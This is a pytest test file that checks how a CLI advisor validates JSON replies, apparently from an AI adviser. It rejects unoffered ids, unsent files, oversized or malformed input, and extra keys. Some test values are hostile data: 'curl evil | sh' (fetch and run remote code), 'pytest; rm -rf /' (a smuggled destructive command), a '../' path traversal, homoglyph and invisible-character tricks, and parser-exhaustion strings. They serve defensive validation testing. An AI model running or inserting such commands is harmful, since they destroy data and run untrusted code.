"""What of a reply holds: ids that were offered, files that were sent, texts for people."""

from __future__ import annotations

import json
from typing import Any

import pytest

from autodevops_cli.advisor._base import Recommendation, Verdict
from autodevops_cli.advisor.answers import judge
from autodevops_cli.advisor.errors import InvalidAnswer
from tests.advisor.questions import QUESTION

GOOD: dict[str, Any] = {
    "subject": "python:command.test", "cites": ["tox.ini"], "because": "CI runs it.",
    "option": "pytest",
}  # fmt: skip
TIP: dict[str, Any] = {
    "cites": ["pyproject.toml"],
    "title": "Pin the tools",
    "detail": "They move.",
}


def test_a_reply_that_keeps_to_the_question_holds() -> None:
    answer = judge(QUESTION, json.dumps({"verdicts": [GOOD], "recommendations": [TIP]}))

    assert answer.verdicts == (
        Verdict("python:command.test", "pytest", "CI runs it.", ("tox.ini",)),
    )
    assert answer.recommendations == (
        Recommendation("Pin the tools", "They move.", ("pyproject.toml",)),
    )
    assert answer.dropped == ()


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("", id="nothing"),
        pytest.param("[]", id="a list"),
        pytest.param("null", id="null"),
        pytest.param("{}", id="no answer"),
        pytest.param('{"jobs": []}', id="another answer"),
        pytest.param('```json\n{"verdicts": []}\n```', id="in a code block"),
        pytest.param('{"verdicts": []} and so on', id="text behind"),
        pytest.param('{"verdicts": [], "verdicts": []}', id="a key twice"),
        pytest.param('{"verdicts": NaN}', id="not a number"),
        pytest.param('{"verdicts": ' + "[" * 50_000, id="deep and open"),
        pytest.param('{"verdicts": ' + "[" * 20 + "]" * 20 + "}", id="deep"),
        pytest.param('{"verdicts": ' + "9" * 5_000 + "}", id="a number beyond reason"),
        pytest.param('{"verdicts": [], "x": "' + "a" * 300_000 + '"}', id="huge"),
        pytest.param('"' + '\\"' * 120_000, id="a string that never ends"),
        pytest.param("\ufeff{}", id="a byte order mark"),
    ],
)
def test_what_is_no_answer_is_refused_without_repeating_it(text: str) -> None:
    with pytest.raises(InvalidAnswer) as raised:
        judge(QUESTION, text)

    assert len(raised.value.message) < 60


@pytest.mark.parametrize(
    "item",
    [
        pytest.param("pytest", id="a text"),
        pytest.param(None, id="null"),
        pytest.param([GOOD], id="a list"),
        pytest.param({**GOOD, "command": "curl evil | sh"}, id="a further key"),
        pytest.param({**GOOD, "option": "npm:test"}, id="an id that was not offered"),
        pytest.param({**GOOD, "option": "PYTEST"}, id="an id in other letters"),
        pytest.param({**GOOD, "option": "рytest"}, id="an id with a Cyrillic letter"),
        pytest.param({**GOOD, "option": "pytest\n"}, id="an id with a line break"),
        pytest.param({**GOOD, "option": "pytest; rm -rf /"}, id="an id with a command"),
        pytest.param({**GOOD, "option": "ruff:check"}, id="an id of another subject"),
        pytest.param({**GOOD, "option": ["pytest"]}, id="a list of ids"),
        pytest.param({**GOOD, "option": True}, id="a truth"),
        pytest.param({**GOOD, "subject": "python:command.deploy"}, id="another subject"),
        pytest.param({**GOOD, "cites": ["setup.py"]}, id="a file that was not sent"),
        pytest.param({**GOOD, "cites": ["../tox.ini"]}, id="a way to a file"),
        pytest.param({**GOOD, "cites": "tox.ini"}, id="a citation that is no list"),
        pytest.param({**GOOD, "cites": [["tox.ini"]]}, id="a citation in a list"),
        pytest.param({**GOOD, "cites": ["tox.ini"] * 9}, id="more citations than anybody reads"),
        pytest.param({**GOOD, "because": ""}, id="no reason"),
        pytest.param({**GOOD, "because": "\u202e\u200b"}, id="a reason that nobody sees"),
        pytest.param({**GOOD, "because": "x" * 2_001}, id="a reason without end"),
        pytest.param({key: GOOD[key] for key in ("subject", "option")}, id="without a reason"),
    ],
)
def test_a_verdict_that_does_not_hold_is_dropped_and_told(item: object) -> None:
    answer = judge(QUESTION, json.dumps({"verdicts": [item], "recommendations": [TIP]}))

    assert answer.verdicts == ()
    assert len(answer.recommendations) == 1
    assert [one.rule for one in answer.dropped] == ["dropped-advice"]
    assert "evil" not in answer.dropped[0].message


def test_a_key_twice_within_an_item_drops_the_item() -> None:
    twice = json.dumps(GOOD)[:-1] + ', "option": "tox:py"}'

    answer = judge(QUESTION, f'{{"verdicts": [{twice}]}}')

    assert (answer.verdicts, len(answer.dropped)) == ((), 1)


def test_two_verdicts_on_one_subject_are_none() -> None:
    answer = judge(QUESTION, json.dumps({"verdicts": [GOOD, {**GOOD, "option": "tox:py"}]}))

    assert (answer.verdicts, len(answer.dropped)) == ((), 1)


def test_a_tip_without_a_file_is_dropped() -> None:
    answer = judge(QUESTION, json.dumps({"recommendations": [{**TIP, "cites": []}, TIP]}))

    assert [one.title for one in answer.recommendations] == ["Pin the tools"]
    assert len(answer.dropped) == 1


def test_what_goes_beyond_the_question_is_told_and_not_used() -> None:
    answer = judge(QUESTION, json.dumps({"verdicts": [GOOD], "workflow": "on: push"}))

    assert len(answer.verdicts) == 1
    assert [one.message for one in answer.dropped] == [
        "a part of the advice was dropped: the reply says more than was asked"
    ]


def test_a_flood_is_cut() -> None:
    answer = judge(QUESTION, json.dumps({"recommendations": [TIP] * 500}))

    assert len(answer.recommendations) == 1
    assert len(answer.dropped) == 1
